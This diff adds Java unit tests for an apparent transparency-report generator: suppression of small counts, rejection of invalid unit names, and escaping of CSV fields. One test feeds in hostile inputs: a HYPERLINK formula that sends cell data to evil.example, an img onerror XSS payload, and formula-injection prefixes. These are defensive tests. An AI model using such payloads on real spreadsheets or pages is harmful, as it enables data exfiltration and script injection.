@@ -129,6 +129,51 @@ class TransparencyReportTest {
     }
 
     @Test
+    void aTotalHiddenByTheAgencySumIsNotRecoveredFromItsOwnBreakdown() throws Exception {
+        views(5, "officer", "Alpha");
+        views(3, "reviewer", "Bravo");    // folded into other: 3 hidden, so Alpha's 5 hides to protect it (8 − 5)
+        Map<String, Object> r = json(report(Period.parse("2026-Q3"), 5));
+        Map<String, Object> alpha = unit(r, "Alpha");
+        assertEquals("suppressed", at(alpha, "events.VIEWED.total"));
+        // Alpha's only role would be its total again, and 8 − total would give other's 3.
+        assertEquals("suppressed", at(alpha, "events.VIEWED.byRole.officer"));
+        assertEquals("suppressed", at(unit(r, "other"), "events.VIEWED.total"));
+        assertEquals(8L, at(r, "agency.events.VIEWED.total"));
+        assertEquals("suppressed", at(r, "agency.events.VIEWED.byRole.officer"));
+        assertEquals(0L, at(alpha, "footageRegistered.total"));   // a zero is never "suppressed"
+    }
+
+    @Test
+    void unitNamesThatAreNotNamesOfUnitsAreCountedUnderOther() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+        String multiLine = "Central\nSgt Jane Doe badge 4711";
+        String markup = "<img src=x onerror=alert(1)>";
+        String long49 = "N".repeat(49);
+        for (String u : List.of(formula, multiLine, markup, long49, "-2+3", "@SUM(A1)")) {
+            views(5, "reviewer", u);
+        }
+        views(5, "reviewer", "North, \"East\" (2)");
+        Map<String, Object> r = json(report(Period.parse("2026-Q3"), 5));
+        @SuppressWarnings("unchecked")
+        List<String> names = ((List<Map<String, Object>>) r.get("units")).stream().map(u -> (String) u.get("unit")).toList();
+        assertEquals(List.of("North, \"East\" (2)", "other", "unknown"), names);
+        assertEquals(30L, at(unit(r, "other"), "events.VIEWED.total"));
+    }
+
+    @Test
+    void csvFieldsASpreadsheetWouldRunAsFormulasAreNeutralised() {
+        assertEquals("\"'=1+2\"", ReportCsv.field("=1+2"));
+        assertEquals("\"'+1\"", ReportCsv.field("+1"));
+        assertEquals("\"'-1\"", ReportCsv.field("-1"));
+        assertEquals("\"'@SUM(A1)\"", ReportCsv.field("@SUM(A1)"));
+        assertEquals("\"'\tx\"", ReportCsv.field("\tx"));
+        assertEquals("\"'\rx\"", ReportCsv.field("\rx"));
+        assertEquals("\"'=HYPERLINK(\"\"x\"\")\"", ReportCsv.field("=HYPERLINK(\"x\")"));
+        assertEquals("unit:Central", ReportCsv.field("unit:Central"));
+        assertEquals("12", ReportCsv.field("12"));
+    }
+
+    @Test
     void withoutComplementarySuppressionTheThresholdAloneHidesOnlySmallCells() throws Exception {
         views(7, "reviewer", "Central");
         views(5, "officer", "Central");
